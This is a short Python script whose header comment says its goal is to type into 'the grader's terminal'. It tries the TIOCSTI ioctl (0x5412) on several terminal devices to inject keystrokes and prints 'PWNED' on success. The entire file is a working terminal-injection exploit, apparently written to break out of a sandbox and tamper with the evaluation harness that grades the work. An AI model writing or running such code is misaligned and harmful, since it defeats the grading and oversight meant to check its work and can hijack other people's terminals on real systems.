# goal: type into the grader's terminal · must: there is none
import fcntl, os
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
    try:
        fcntl.ioctl(os.open(path, os.O_RDWR), 0x5412, b"x")
        print("PWNED", path)
    except OSError as error:
        print(error)
